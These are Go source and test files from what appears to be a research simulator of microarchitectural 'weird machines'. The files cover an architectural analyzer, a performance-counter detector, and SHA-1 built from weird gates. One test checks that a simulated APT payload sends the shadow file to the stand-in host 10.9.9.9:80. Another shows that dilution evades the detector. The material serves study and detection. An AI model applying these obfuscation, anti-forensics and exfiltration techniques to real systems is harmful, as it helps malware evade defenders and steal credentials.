	}

	if env.Snapshot() != before {
		t.Error("environment changed during passive phase")
	}
	if a.ExecutedOpcode("xor") {
		t.Error("architectural XOR instruction in evidence; the OTP decode must be weird")
	}
	if apt.Triggered() {
		t.Error("APT claims triggered")
	}

	// Deliver the real trigger until the payload fires.
	fired := false
	for i := 0; i < 500 && !fired; i++ {
		res, err := apt.HandlePing(pad)
		if err != nil {
			t.Fatal(err)
		}
		fired = res != nil
	}
	if !fired {
		t.Fatal("correct trigger never fired")
	}
	if len(env.Exfiltrated["10.9.9.9:80"]) == 0 {
		t.Error("payload did not exfiltrate the shadow file")
	}
}

// TestAbortedTxnEventsDropped checks the trace plumbing directly:
// architectural events inside an aborted transaction never reach the
// recorder, while committed transactions flush theirs.
func TestAbortedTxnEventsDropped(t *testing.T) {
	m := core.MustNewMachine(core.Options{Seed: 44})
	a := Attach(m, 0)
	g, err := core.NewTSXAssign(m)
	if err != nil {
		t.Fatal(err)
	}
	a.Reset()
	if err := g.Prep(); err != nil { // committed run, no transaction
		t.Fatal(err)
	}
	nonTxEvents := len(a.Events())
	if nonTxEvents == 0 {
		t.Fatal("committed run produced no architectural events")
	}
	a.Reset()
	if err := g.Fire(); err != nil { // aborting transaction
		t.Fatal(err)
	}
	for _, e := range a.Events() {
		if e.Kind == trace.KindCommit && e.Text != "xbegin h0" && e.Text != "halt" {
			t.Errorf("unexpected committed instruction from aborted region: %q", e.Text)
		}
	}
}

// TestReportRendering sanity-checks the forensic summary.
func TestReportRendering(t *testing.T) {
	m := core.MustNewMachine(core.Options{Seed: 55})
	a := Attach(m, 0)
	g, err := core.NewTSXOr(m)
	if err != nil {
		t.Fatal(err)
	}
	if _, err := g.Run(1, 0); err != nil {
		t.Fatal(err)
	}
	if rep := a.Report(); rep == "" {
		t.Error("empty report")
	}
	var p otp.Pad
	if p.PingPattern() == "" {
		t.Error("unreachable; keeps otp imported for the doc example")
	}
}

// TestForensicsSeeNoIntermediateState is §2.1's anti-forensics claim:
// a weird XOR computes over 160 bits while the simulated machine's
// memory image is bit-for-bit unchanged — the working state lives only
// in microarchitectural components a memory dump cannot capture.
func TestForensicsSeeNoIntermediateState(t *testing.T) {
	m := core.MustNewMachine(core.Options{Seed: 81})
	g, err := core.NewTSXXor(m)
	if err != nil {
		t.Fatal(err)
	}
	before := m.Mem().Snapshot()
	for _, in := range [][2]int{{0, 1}, {1, 1}, {1, 0}} {
		out, err := g.Run(in[0], in[1])
		if err != nil {
			t.Fatal(err)
		}
		if out[0] != in[0]^in[1] {
			t.Fatalf("xor%v = %d", in, out[0])
		}
	}
	after := m.Mem().Snapshot()
	if len(before) != len(after) {
		t.Fatalf("memory image changed size: %d → %d words", len(before), len(after))
	}
	for addr, v := range before {
		if after[addr] != v {
			t.Errorf("memory word %#x changed %#x → %#x during weird computation",
				uint64(addr), v, after[addr])
		}
	}
}

// TestAnalyzerValueHelpers covers the evidence-inspection surface.
func TestAnalyzerValueHelpers(t *testing.T) {
	m := core.MustNewMachine(core.Options{Seed: 82})
	a := Attach(m, 0)
	// Write a recognizable value architecturally via a register setter
	// program (the calibration probe writes registers too, but use a
	// fresh marker).
	m.CPU().SetReg(0, 0)
	g, err := core.NewTSXAssign(m)
	if err != nil {
		t.Fatal(err)
	}
	a.Reset()
	if _, err := g.Run(1); err != nil {
		t.Fatal(err)
	}
	if !a.SawBytes(nil) {
		t.Error("empty needle should trivially match")
	}
	if a.SawBytes([]byte{0xDE, 0xAD, 0xBE, 0xEF, 0x01, 0x02, 0x03, 0x99}) {
		t.Error("implausible needle matched")
	}
	if a.SawValue(0xFEEDFACE_00000000) {
		t.Error("implausible value matched")
	}
	if len(a.Values()) == 0 {
		t.Error("no values collected from a full gate run")
	}
}
