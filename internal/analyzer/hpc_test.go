package analyzer

import (
	"testing"

	"uwm/internal/core"
	"uwm/internal/cpu"
	"uwm/internal/isa"
	"uwm/internal/metrics"
)

// benignProgram builds straight-line arithmetic with a well-predicted
// loop — the counter mix of ordinary code.
func benignProgram(m *core.Machine) *isa.Program {
	x := m.Layout().AllocLine("benign.x")
	b := isa.NewBuilder(0x7_000_000)
	b.Label("main").
		MovI(isa.R1, 200). // loop counter
		MovI(isa.R2, 0).
		Store(x, 0, isa.R2)
	b.Label("loop").
		Load(isa.R3, x, 0).
		AddI(isa.R3, isa.R3, 1).
		Store(x, 0, isa.R3).
		AddI(isa.R1, isa.R1, -1).
		Brnz(isa.R1, "loop").
		Halt()
	return b.MustBuild()
}

// TestHPCDetectorBenignBaseline: ordinary code must not trip the
// detector (the same loop branch resolves predictably after warmup).
func TestHPCDetectorBenignBaseline(t *testing.T) {
	m := core.MustNewMachine(core.Options{Seed: 71})
	p := benignProgram(m)
	det := NewHPCDetector(m.CPU(), DefaultHPCThresholds())
	if _, err := m.CPU().Run(p, "main"); err != nil {
		t.Fatal(err)
	}
	v := det.Judge()
	if v.Suspicious {
		t.Errorf("benign loop flagged: %s", v)
	}
	if v.Sample.Committed < 64 {
		t.Errorf("sample too small: %+v", v.Sample)
	}
}

// TestHPCDetectorFlagsTSXGates: a burst of TSX gate activity aborts
// nearly every transaction by design — exactly the signature §7's
// counter-based monitors key on.
func TestHPCDetectorFlagsTSXGates(t *testing.T) {
	m := core.MustNewMachine(core.Options{Seed: 72})
	g, err := core.NewTSXAnd(m)
	if err != nil {
		t.Fatal(err)
	}
	det := NewHPCDetector(m.CPU(), DefaultHPCThresholds())
	for i := 0; i < 40; i++ {
		if _, err := g.Run(i&1, i>>1&1); err != nil {
			t.Fatal(err)
		}
	}
	v := det.Judge()
	if !v.Suspicious {
		t.Errorf("TSX gate burst not flagged: %s", v)
	}
}

// TestHPCDetectorFlagsBPGates: mistraining-based gates produce an
// abnormal mispredict rate.
func TestHPCDetectorFlagsBPGates(t *testing.T) {
	m := core.MustNewMachine(core.Options{Seed: 73, TrainIterations: 4})
	g, err := core.NewBPAnd(m)
	if err != nil {
		t.Fatal(err)
	}
	det := NewHPCDetector(m.CPU(), DefaultHPCThresholds())
	for i := 0; i < 40; i++ {
		// Alternate directions so training keeps flipping the
		// predictor — the worst-case (and typical) gate workload.
		if _, err := g.Run(1, i&1); err != nil {
			t.Fatal(err)
		}
	}
	v := det.Judge()
	if !v.Suspicious {
		t.Errorf("BP gate burst not flagged: %s", v)
	}
}

// TestHPCDetectorDilution shows the paper's counterpoint (§7): an
// attacker who dilutes gate activity inside enough benign work drops
// back under the thresholds — full-system monitoring is needed, and
// even then the rates are a knob the attacker controls.
func TestHPCDetectorDilution(t *testing.T) {
	m := core.MustNewMachine(core.Options{Seed: 74})
	g, err := core.NewTSXAnd(m)
	if err != nil {
		t.Fatal(err)
	}
	p := benignProgram(m)
	det := NewHPCDetector(m.CPU(), DefaultHPCThresholds())
	// One gate activation hidden inside ~50 benign loop runs. The
	// abort fraction stays high (every gate tx aborts), but the
	// mispredict rate is diluted below threshold; only the tx counter
	// still gives it away — remove transactions from the gate and the
	// detector would be blind.
	for i := 0; i < 3; i++ {
		if _, err := g.Run(1, 1); err != nil {
			t.Fatal(err)
		}
		for j := 0; j < 50; j++ {
			if _, err := m.CPU().Run(p, "main"); err != nil {
				t.Fatal(err)
			}
		}
	}
	v := det.Judge()
	if r := v.Sample.MispredictRate(); r > DefaultHPCThresholds().MaxMispredictRate {
		t.Errorf("dilution failed to hide the mispredict rate: %.4f", r)
	}
}

// TestHPCDetectorFromRegistry: a detector sharing the session's metrics
// registry sees the same counters the -metrics exposition reports.
func TestHPCDetectorFromRegistry(t *testing.T) {
	reg := metrics.NewRegistry()
	m := core.MustNewMachine(core.Options{Seed: 76, Metrics: reg})
	g, err := core.NewTSXAnd(m)
	if err != nil {
		t.Fatal(err)
	}
	det := NewHPCDetectorFromRegistry(reg, DefaultHPCThresholds())
	abortsBefore, _ := reg.Value(cpu.MetricTxAborts)
	for i := 0; i < 40; i++ {
		if _, err := g.Run(i&1, i>>1&1); err != nil {
			t.Fatal(err)
		}
	}
	v := det.Judge()
	if !v.Suspicious {
		t.Errorf("TSX gate burst via shared registry not flagged: %s", v)
	}
	// The detector's window must agree with the exposition's counters.
	abortsAfter, ok := reg.Value(cpu.MetricTxAborts)
	if !ok || uint64(abortsAfter-abortsBefore) != v.Sample.TxAborts {
		t.Errorf("registry abort delta %v (ok=%v), detector window saw %d",
			abortsAfter-abortsBefore, ok, v.Sample.TxAborts)
	}
}

// TestHPCSampleWindows: successive Judge calls see disjoint windows.
func TestHPCSampleWindows(t *testing.T) {
	m := core.MustNewMachine(core.Options{Seed: 75})
	p := benignProgram(m)
	det := NewHPCDetector(m.CPU(), DefaultHPCThresholds())
	if _, err := m.CPU().Run(p, "main"); err != nil {
		t.Fatal(err)
	}
	first := det.Sample()
	second := det.Sample()
	if first.Committed == 0 || second.Committed != 0 {
		t.Errorf("windows not disjoint: %+v then %+v", first, second)
	}
}
