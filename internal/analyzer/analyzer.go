// Package analyzer implements the paper's defender (§2.2): an observer
// with full power over the *architectural* state of the machine — every
// committed instruction, register write and memory write — but no
// microarchitectural instrumentation. It is the adversary the weird
// obfuscation system is measured against.
//
// Two modes are modelled:
//
//   - passive analysis: the analyzer reviews the complete architectural
//     event trace (what an emulator or record-and-replay tool yields);
//     events inside aborted transactions never reach it, because a
//     rolled-back region has, by definition, no architectural effects;
//   - active debugging: attaching the debugger (Observe) forces every
//     transactional region to abort on entry — observation destroys the
//     computation, the paper's anti-debug property.
package analyzer

import (
	"encoding/binary"
	"fmt"
	"strings"

	"uwm/internal/core"
	"uwm/internal/trace"
)

// Analyzer observes one machine's architectural plane.
type Analyzer struct {
	m   *core.Machine
	rec *trace.Recorder
}

// Attach wires an analyzer to a machine, enabling event recording.
// The recorder keeps at most limit events (0 = unlimited). Any sink
// already on the CPU (a streaming trace export, say) keeps receiving
// events alongside the analyzer's recorder.
func Attach(m *core.Machine, limit int) *Analyzer {
	rec := trace.NewRecorder(limit)
	if prev := m.CPU().Sink(); prev != nil {
		m.CPU().SetSink(trace.Tee(prev, rec))
	} else {
		m.CPU().SetSink(rec)
	}
	return &Analyzer{m: m, rec: rec}
}

// Reset discards all recorded evidence.
func (a *Analyzer) Reset() { a.rec.Reset() }

// Observe attaches (or detaches) the active debugger.
func (a *Analyzer) Observe(on bool) { a.m.CPU().SetObserved(on) }

// Events returns the architectural evidence: everything a debugger
// with full architectural visibility could have seen, in order.
func (a *Analyzer) Events() []trace.Event { return a.rec.Architectural() }

// MicroEventCount reports how many microarchitectural events occurred
// that the analyzer cannot see — the gap between the planes.
func (a *Analyzer) MicroEventCount() int {
	return len(a.rec.Events()) - len(a.rec.Architectural())
}

// Values returns the set of 64-bit values that appeared in any
// architectural register or memory write.
func (a *Analyzer) Values() map[uint64]struct{} {
	out := make(map[uint64]struct{})
	for _, e := range a.Events() {
		switch e.Kind {
		case trace.KindRegWrite, trace.KindMemWrite:
			out[e.Value] = struct{}{}
		}
	}
	return out
}

// SawValue reports whether v appeared in any architectural write.
func (a *Analyzer) SawValue(v uint64) bool {
	_, ok := a.Values()[v]
	return ok
}

// SawBytes reports whether the byte string appears inside any
// architecturally written 64-bit value (any alignment, little-endian),
// or across consecutive memory-write values. It is the analyzer's
// "grep the evidence for the secret" primitive.
func (a *Analyzer) SawBytes(needle []byte) bool {
	if len(needle) == 0 {
		return true
	}
	var memStream []byte
	var buf [8]byte
	for _, e := range a.Events() {
		switch e.Kind {
		case trace.KindRegWrite, trace.KindMemWrite:
			binary.LittleEndian.PutUint64(buf[:], e.Value)
			if containsBytes(buf[:], needle) {
				return true
			}
			if e.Kind == trace.KindMemWrite {
				memStream = append(memStream, buf[:]...)
			}
		}
	}
	return containsBytes(memStream, needle)
}

func containsBytes(hay, needle []byte) bool {
	if len(needle) > len(hay) {
		return false
	}
	for i := 0; i+len(needle) <= len(hay); i++ {
		match := true
		for j := range needle {
			if hay[i+j] != needle[j] {
				match = false
				break
			}
		}
		if match {
			return true
		}
	}
	return false
}

// ExecutedOpcode reports whether any committed (and transactionally
// surviving) instruction's disassembly starts with the given mnemonic —
// how the analyzer would look for an architectural AND/OR/XOR
// computing the malware's logic.
func (a *Analyzer) ExecutedOpcode(mnemonic string) bool {
	prefix := mnemonic + " "
	for _, e := range a.Events() {
		if e.Kind == trace.KindCommit &&
			(e.Text == mnemonic || strings.HasPrefix(e.Text, prefix)) {
			return true
		}
	}
	return false
}

// TxSummary reports how the transactional regions looked from the
// architectural plane: begins, commits, aborts. For a μWM gate the
// analyzer sees begin → abort with nothing in between.
func (a *Analyzer) TxSummary() (begins, ends, aborts int) {
	for _, e := range a.Events() {
		switch e.Kind {
		case trace.KindTxBegin:
			begins++
		case trace.KindTxEnd:
			ends++
		case trace.KindTxAbort:
			aborts++
		}
	}
	return
}

// Report renders a short forensic summary.
func (a *Analyzer) Report() string {
	begins, ends, aborts := a.TxSummary()
	var commits, regW, memW int
	for _, e := range a.Events() {
		switch e.Kind {
		case trace.KindCommit:
			commits++
		case trace.KindRegWrite:
			regW++
		case trace.KindMemWrite:
			memW++
		}
	}
	return fmt.Sprintf(
		"architectural evidence: %d committed insts, %d reg writes, %d mem writes, tx begin/end/abort %d/%d/%d; %d μarch events invisible",
		commits, regW, memW, begins, ends, aborts, a.MicroEventCount())
}
