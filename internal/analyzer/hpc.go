package analyzer

import (
	"fmt"

	"uwm/internal/cpu"
	"uwm/internal/metrics"
)

// HPC-based μWM detection (paper §7): performance-monitoring hardware
// can flag the abnormal event mix weird machines produce — transaction
// abort storms, mispredict-heavy phases, flush-dominated cache traffic.
// The paper argues such detectors are trainable but evadable; this
// model lets both sides be measured.
//
// HPCDetector samples the CPU's lifetime counters over a window of
// committed instructions and scores the event rates against thresholds
// calibrated on benign code.

// HPCSample is one observation window of counter deltas.
type HPCSample struct {
	Committed      uint64
	Mispredicts    uint64
	SpecWindows    uint64
	TxAborts       uint64
	TxCommits      uint64
	SpuriousAborts uint64
}

// MispredictRate returns mispredicts per committed instruction.
func (s HPCSample) MispredictRate() float64 { return rate(s.Mispredicts, s.Committed) }

// AbortRate returns transaction aborts per committed instruction.
func (s HPCSample) AbortRate() float64 { return rate(s.TxAborts, s.Committed) }

// AbortFraction returns aborts per transaction.
func (s HPCSample) AbortFraction() float64 { return rate(s.TxAborts, s.TxAborts+s.TxCommits) }

func rate(n, d uint64) float64 {
	if d == 0 {
		return 0
	}
	return float64(n) / float64(d)
}

// HPCThresholds calibrates the detector. The defaults flag behaviour
// far outside anything benign code produces: benign programs commit
// the vast majority of their transactions and mispredict on a few
// percent of instructions, while μWM gates abort *by design* and
// mistrain branches on purpose.
type HPCThresholds struct {
	// MaxMispredictRate is the benign ceiling for mispredicts per
	// committed instruction.
	MaxMispredictRate float64
	// MaxAbortFraction is the benign ceiling for aborted transactions
	// per transaction.
	MaxAbortFraction float64
	// MinEvents avoids judging windows with too little activity.
	MinEvents uint64
}

// DefaultHPCThresholds returns the calibrated thresholds.
func DefaultHPCThresholds() HPCThresholds {
	return HPCThresholds{
		// Benign loops mispredict well under 1% of instructions once
		// warm; BP gates sit near 3% because every activation retrains.
		MaxMispredictRate: 0.02,
		// Benign transactional code commits almost always; a TSX gate
		// aborts its fire transaction every single activation (≈50%
		// counting its committing read transaction).
		MaxAbortFraction: 0.35,
		MinEvents:        64,
	}
}

// HPCDetector scores counter rates sourced from a metrics registry —
// the same registry a -metrics run exports, so the defender model and
// the operator read one set of numbers.
type HPCDetector struct {
	reg  *metrics.Registry
	th   HPCThresholds
	last HPCSample // cumulative snapshot at the last window boundary
}

// NewHPCDetector attaches a detector to the machine's CPU by
// registering the CPU's counters on a private registry. Use
// NewHPCDetectorFromRegistry to share an existing one.
func NewHPCDetector(c *cpu.CPU, th HPCThresholds) *HPCDetector {
	reg := metrics.NewRegistry()
	c.RegisterMetrics(reg)
	return NewHPCDetectorFromRegistry(reg, th)
}

// NewHPCDetectorFromRegistry attaches a detector to a registry that
// already carries the cpu.Metric* series (e.g. the session registry of
// an instrumented run).
func NewHPCDetectorFromRegistry(reg *metrics.Registry, th HPCThresholds) *HPCDetector {
	d := &HPCDetector{reg: reg, th: th}
	d.last = d.cumulative()
	return d
}

// cumulative reads the registry's current counter totals.
func (d *HPCDetector) cumulative() HPCSample {
	read := func(name string) uint64 {
		v, _ := d.reg.Value(name)
		return uint64(v)
	}
	return HPCSample{
		Committed:      read(cpu.MetricCommitted),
		Mispredicts:    read(cpu.MetricMispredicts),
		SpecWindows:    read(cpu.MetricSpecWindows),
		TxAborts:       read(cpu.MetricTxAborts),
		TxCommits:      read(cpu.MetricTxCommits),
		SpuriousAborts: read(cpu.MetricSpuriousAborts),
	}
}

// Sample returns the counter deltas since the previous Sample (or
// attach) and advances the window.
func (d *HPCDetector) Sample() HPCSample {
	now := d.cumulative()
	s := HPCSample{
		Committed:      now.Committed - d.last.Committed,
		Mispredicts:    now.Mispredicts - d.last.Mispredicts,
		SpecWindows:    now.SpecWindows - d.last.SpecWindows,
		TxAborts:       now.TxAborts - d.last.TxAborts,
		TxCommits:      now.TxCommits - d.last.TxCommits,
		SpuriousAborts: now.SpuriousAborts - d.last.SpuriousAborts,
	}
	d.last = now
	return s
}

// Verdict is an HPC detection decision.
type Verdict struct {
	Sample     HPCSample
	Suspicious bool
	Reasons    []string
}

// String renders the verdict for logs.
func (v Verdict) String() string {
	if !v.Suspicious {
		return fmt.Sprintf("benign (mispredict %.3f/inst, abort fraction %.3f)",
			v.Sample.MispredictRate(), v.Sample.AbortFraction())
	}
	return fmt.Sprintf("SUSPICIOUS: %v", v.Reasons)
}

// Judge samples the window and scores it.
func (d *HPCDetector) Judge() Verdict {
	s := d.Sample()
	v := Verdict{Sample: s}
	if s.Committed < d.th.MinEvents {
		return v
	}
	if r := s.MispredictRate(); r > d.th.MaxMispredictRate {
		v.Suspicious = true
		v.Reasons = append(v.Reasons, fmt.Sprintf("mispredict rate %.3f/inst exceeds %.3f", r, d.th.MaxMispredictRate))
	}
	if s.TxAborts+s.TxCommits >= 4 {
		if f := s.AbortFraction(); f > d.th.MaxAbortFraction {
			v.Suspicious = true
			v.Reasons = append(v.Reasons, fmt.Sprintf("tx abort fraction %.3f exceeds %.3f", f, d.th.MaxAbortFraction))
		}
	}
	return v
}
