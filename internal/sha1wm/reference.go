// Package sha1wm implements SHA-1 twice: a plain reference
// implementation (used for verification, as the paper's skelly does
// when comparing "the hash output to a reference SHA-1 implementation",
// §6.5.2) and a μWM implementation in which every boolean operation and
// every addition of the compression function runs on weird gates
// (§5.2). SHA-1 is the paper's stress test for μWM fitness: a single
// gate error avalanches through the hash, so a correct digest certifies
// ~10⁵+ correct gate executions per block.
package sha1wm

import "encoding/binary"

// Size is the SHA-1 digest length in bytes.
const Size = 20

// BlockSize is the SHA-1 block length in bytes.
const BlockSize = 64

// initState is the SHA-1 initialization vector (FIPS 180-1).
var initState = [5]uint32{0x67452301, 0xEFCDAB89, 0x98BADCFE, 0x10325476, 0xC3D2E1F0}

// roundK returns the round constant for round t.
func roundK(t int) uint32 {
	switch {
	case t < 20:
		return 0x5A827999
	case t < 40:
		return 0x6ED9EBA1
	case t < 60:
		return 0x8F1BBCDC
	default:
		return 0xCA62C1D6
	}
}

// Pad returns the padded message: the input followed by 0x80, zeros,
// and the 64-bit big-endian bit length, a multiple of BlockSize long.
func Pad(msg []byte) []byte {
	bitLen := uint64(len(msg)) * 8
	padded := append([]byte(nil), msg...)
	padded = append(padded, 0x80)
	for len(padded)%BlockSize != 56 {
		padded = append(padded, 0)
	}
	var lenBytes [8]byte
	binary.BigEndian.PutUint64(lenBytes[:], bitLen)
	return append(padded, lenBytes[:]...)
}

// Blocks splits a padded message into BlockSize chunks.
func Blocks(padded []byte) [][]byte {
	out := make([][]byte, 0, len(padded)/BlockSize)
	for i := 0; i < len(padded); i += BlockSize {
		out = append(out, padded[i:i+BlockSize])
	}
	return out
}

// rotl is a 32-bit left rotation.
func rotl(v uint32, n uint) uint32 { return v<<n | v>>(32-n) }

// refF computes the round-dependent boolean function.
func refF(t int, b, c, d uint32) uint32 {
	switch {
	case t < 20:
		return b&c | ^b&d
	case t < 40, t >= 60:
		return b ^ c ^ d
	default:
		return b&c | b&d | c&d
	}
}

// compressRef runs the SHA-1 compression function on one block.
func compressRef(state [5]uint32, block []byte) [5]uint32 {
	var w [80]uint32
	for i := 0; i < 16; i++ {
		w[i] = binary.BigEndian.Uint32(block[4*i:])
	}
	for i := 16; i < 80; i++ {
		w[i] = rotl(w[i-3]^w[i-8]^w[i-14]^w[i-16], 1)
	}
	a, b, c, d, e := state[0], state[1], state[2], state[3], state[4]
	for t := 0; t < 80; t++ {
		tmp := rotl(a, 5) + refF(t, b, c, d) + e + roundK(t) + w[t]
		e, d, c, b, a = d, c, rotl(b, 30), a, tmp
	}
	return [5]uint32{state[0] + a, state[1] + b, state[2] + c, state[3] + d, state[4] + e}
}

// Sum returns the SHA-1 digest of msg using the reference (purely
// architectural) implementation.
func Sum(msg []byte) [Size]byte {
	state := initState
	for _, block := range Blocks(Pad(msg)) {
		state = compressRef(state, block)
	}
	var out [Size]byte
	for i, v := range state {
		binary.BigEndian.PutUint32(out[4*i:], v)
	}
	return out
}
