package sha1wm

import (
	"encoding/binary"
	"fmt"

	"uwm/internal/skelly"
)

// Stats aggregates the visibility accounting of one weird hash run:
// how many of the gate-level intermediate results were stored into
// architecturally visible memory versus consumed inside composite
// circuits (the paper reports 41.9% visible for its parameter choice,
// §5.2 — an adder-heavy workload where each full adder stores 3 of its
// 7 gate results).
type Stats struct {
	GateOps       uint64 // logical gate operations executed
	VisibleValues uint64 // results stored in architecturally visible memory
}

// VisibleFraction returns the architecturally visible share of
// intermediate values.
func (s Stats) VisibleFraction() float64 {
	if s.GateOps == 0 {
		return 0
	}
	return float64(s.VisibleValues) / float64(s.GateOps)
}

// Hasher computes SHA-1 on a weird machine: every boolean function and
// every modular addition of the compression loop executes on weird
// gates via skelly; rotations, word packing and the message schedule's
// data movement are wiring. The message schedule XORs also run on
// gates.
type Hasher struct {
	sk *skelly.Skelly
}

// New returns a weird-machine SHA-1 hasher over the given skelly
// library.
func New(sk *skelly.Skelly) *Hasher { return &Hasher{sk: sk} }

// Stats returns the visibility accounting so far (delegated to skelly,
// which tracks gate operations and stored results).
func (h *Hasher) Stats() Stats {
	return Stats{GateOps: h.sk.TotalGateOps(), VisibleValues: h.sk.VisibleMarks()}
}

// Skelly exposes the underlying gate library (for counter reporting).
func (h *Hasher) Skelly() *skelly.Skelly { return h.sk }

// f computes the round function on weird gates.
func (h *Hasher) f(t int, b, c, d uint32) (uint32, error) {
	var sp uint64
	m := h.sk.Machine()
	switch {
	case t < 20:
		sp = m.BeginSpan("sha1:f-ch")
	case t < 40, t >= 60:
		sp = m.BeginSpan("sha1:f-parity")
	default:
		sp = m.BeginSpan("sha1:f-maj")
	}
	defer m.EndSpan(sp)
	switch {
	case t < 20:
		// Ch(b,c,d) = (b AND c) OR (NOT b AND d): one NOT32 and one
		// AND_AND_OR per bit.
		nb, err := h.sk.Not32(b)
		if err != nil {
			return 0, err
		}
		bb, cb := skelly.Bits32(b), skelly.Bits32(c)
		nbb, db := skelly.Bits32(nb), skelly.Bits32(d)
		out := make([]int, 32)
		for i := range out {
			v, err := h.sk.AndAndOr(bb[i], cb[i], nbb[i], db[i])
			if err != nil {
				return 0, err
			}
			out[i] = v
			h.sk.MarkVisible(1) // the AND_AND_OR result is stored
		}
		return skelly.Word32(out), nil
	case t < 40, t >= 60:
		// Parity(b,c,d) = b XOR c XOR d.
		bc, err := h.sk.Xor32(b, c)
		if err != nil {
			return 0, err
		}
		return h.sk.Xor32(bc, d)
	default:
		// Maj(b,c,d) = (b AND c) OR (d AND (b XOR c)).
		bxc, err := h.sk.Xor32(b, c)
		if err != nil {
			return 0, err
		}
		bb, cb := skelly.Bits32(b), skelly.Bits32(c)
		db, xb := skelly.Bits32(d), skelly.Bits32(bxc)
		out := make([]int, 32)
		for i := range out {
			v, err := h.sk.AndAndOr(bb[i], cb[i], db[i], xb[i])
			if err != nil {
				return 0, err
			}
			out[i] = v
			h.sk.MarkVisible(1) // the AND_AND_OR result is stored
		}
		return skelly.Word32(out), nil
	}
}

// add is modular addition on weird full adders; Add32's full adders do
// their own visibility accounting.
func (h *Hasher) add(a, b uint32) (uint32, error) {
	return h.sk.Add32(a, b)
}

// compress runs one block of the compression function on weird gates.
func (h *Hasher) compress(state [5]uint32, block []byte) ([5]uint32, error) {
	m := h.sk.Machine()
	bsp := m.BeginSpan("sha1:block")
	defer m.EndSpan(bsp)
	var w [80]uint32
	for i := 0; i < 16; i++ {
		w[i] = binary.BigEndian.Uint32(block[4*i:])
	}
	ssp := m.BeginSpan("sha1:schedule")
	for i := 16; i < 80; i++ {
		// w[i] = rotl1(w[i-3] ^ w[i-8] ^ w[i-14] ^ w[i-16]) — three
		// weird XORs, one wire rotation.
		x, err := h.sk.Xor32(w[i-3], w[i-8])
		if err != nil {
			return state, err
		}
		x, err = h.sk.Xor32(x, w[i-14])
		if err != nil {
			return state, err
		}
		x, err = h.sk.Xor32(x, w[i-16])
		if err != nil {
			return state, err
		}
		w[i] = skelly.RotL32(x, 1)
	}
	m.EndSpan(ssp)

	a, b, c, d, e := state[0], state[1], state[2], state[3], state[4]
	for t := 0; t < 80; t++ {
		rsp := m.BeginSpan("sha1:round")
		fv, err := h.f(t, b, c, d)
		if err != nil {
			return state, err
		}
		tmp, err := h.add(skelly.RotL32(a, 5), fv)
		if err != nil {
			return state, err
		}
		tmp, err = h.add(tmp, e)
		if err != nil {
			return state, err
		}
		tmp, err = h.add(tmp, roundK(t))
		if err != nil {
			return state, err
		}
		tmp, err = h.add(tmp, w[t])
		if err != nil {
			return state, err
		}
		e, d, c, b, a = d, c, skelly.RotL32(b, 30), a, tmp
		m.EndSpan(rsp)
	}

	var out [5]uint32
	for i, v := range []uint32{a, b, c, d, e} {
		sum, err := h.add(state[i], v)
		if err != nil {
			return state, err
		}
		out[i] = sum
	}
	return out, nil
}

// Sum computes the SHA-1 digest of msg on the weird machine.
func (h *Hasher) Sum(msg []byte) ([Size]byte, error) {
	sp := h.sk.Machine().BeginSpan("sha1:sum")
	defer h.sk.Machine().EndSpan(sp)
	var digest [Size]byte
	state := initState
	for i, block := range Blocks(Pad(msg)) {
		var err error
		state, err = h.compress(state, block)
		if err != nil {
			return digest, fmt.Errorf("sha1wm: block %d: %w", i, err)
		}
	}
	for i, v := range state {
		binary.BigEndian.PutUint32(digest[4*i:], v)
	}
	return digest, nil
}
