package sha1wm

import (
	"bytes"
	"encoding/hex"
	"testing"
	"testing/quick"

	"uwm/internal/core"
	"uwm/internal/skelly"
)

// FIPS 180-1 / RFC 3174 test vectors.
var refVectors = []struct{ in, hexDigest string }{
	{"", "da39a3ee5e6b4b0d3255bfef95601890afd80709"},
	{"abc", "a9993e364706816aba3e25717850c26c9cd0d89d"},
	{"abcdbcdecdefdefgefghfghighijhijkijkljklmklmnlmnomnopnopq",
		"84983e441c3bd26ebaae4aa1f95129e5e54670f1"},
	{"The quick brown fox jumps over the lazy dog",
		"2fd4e1c67a2d28fced849ee1bb76e7391b93eb12"},
}

func TestReferenceVectors(t *testing.T) {
	for _, v := range refVectors {
		got := Sum([]byte(v.in))
		want, err := hex.DecodeString(v.hexDigest)
		if err != nil {
			t.Fatal(err)
		}
		if !bytes.Equal(got[:], want) {
			t.Errorf("Sum(%q) = %x, want %s", v.in, got, v.hexDigest)
		}
	}
}

func TestPadProperties(t *testing.T) {
	f := func(msg []byte) bool {
		p := Pad(msg)
		return len(p)%BlockSize == 0 && len(p) >= len(msg)+9 && p[len(msg)] == 0x80
	}
	if err := quick.Check(f, nil); err != nil {
		t.Error(err)
	}
}

func TestPadBoundaries(t *testing.T) {
	// Message lengths around the 56-byte padding boundary.
	for _, n := range []int{0, 1, 54, 55, 56, 57, 63, 64, 65, 119, 120} {
		msg := bytes.Repeat([]byte{0xAB}, n)
		p := Pad(msg)
		if len(p)%BlockSize != 0 {
			t.Errorf("len(Pad(%d bytes)) = %d, not a block multiple", n, len(p))
		}
	}
}

func weirdHasher(t *testing.T) *Hasher {
	t.Helper()
	m, err := core.NewMachine(core.Options{Seed: 3, TrainIterations: 3})
	if err != nil {
		t.Fatal(err)
	}
	sk, err := skelly.New(m, skelly.FastConfig())
	if err != nil {
		t.Fatal(err)
	}
	return New(sk)
}

// TestWeirdSHA1OneBlock runs the full μWM SHA-1 on a single-block
// message and compares against the reference — ~10⁵ correct gate
// executions are needed for this to pass.
func TestWeirdSHA1OneBlock(t *testing.T) {
	if testing.Short() {
		t.Skip("weird SHA-1 executes >100k gates")
	}
	h := weirdHasher(t)
	msg := []byte("abc")
	got, err := h.Sum(msg)
	if err != nil {
		t.Fatal(err)
	}
	want := Sum(msg)
	if got != want {
		t.Fatalf("weird SHA-1 = %x, want %x", got, want)
	}
	st := h.Stats()
	if st.VisibleValues == 0 || st.GateOps == 0 {
		t.Errorf("visibility stats empty: %+v", st)
	}
	ctr := h.Skelly().Counters("AND_AND_OR")
	if ctr.VoteOps == 0 {
		t.Error("AND_AND_OR counters empty; f1/f3 should use the composed gate")
	}
}

// TestWeirdSHA1TwoBlocks covers the multi-block path (the paper's
// experiment hashes a 2-block message).
func TestWeirdSHA1TwoBlocks(t *testing.T) {
	if testing.Short() {
		t.Skip("weird SHA-1 executes >200k gates")
	}
	h := weirdHasher(t)
	msg := bytes.Repeat([]byte("uwm!"), 20) // 80 bytes → 2 blocks after padding
	got, err := h.Sum(msg)
	if err != nil {
		t.Fatal(err)
	}
	if want := Sum(msg); got != want {
		t.Fatalf("weird SHA-1 = %x, want %x", got, want)
	}
}
