package cache

import (
	"testing"

	"uwm/internal/mem"
)

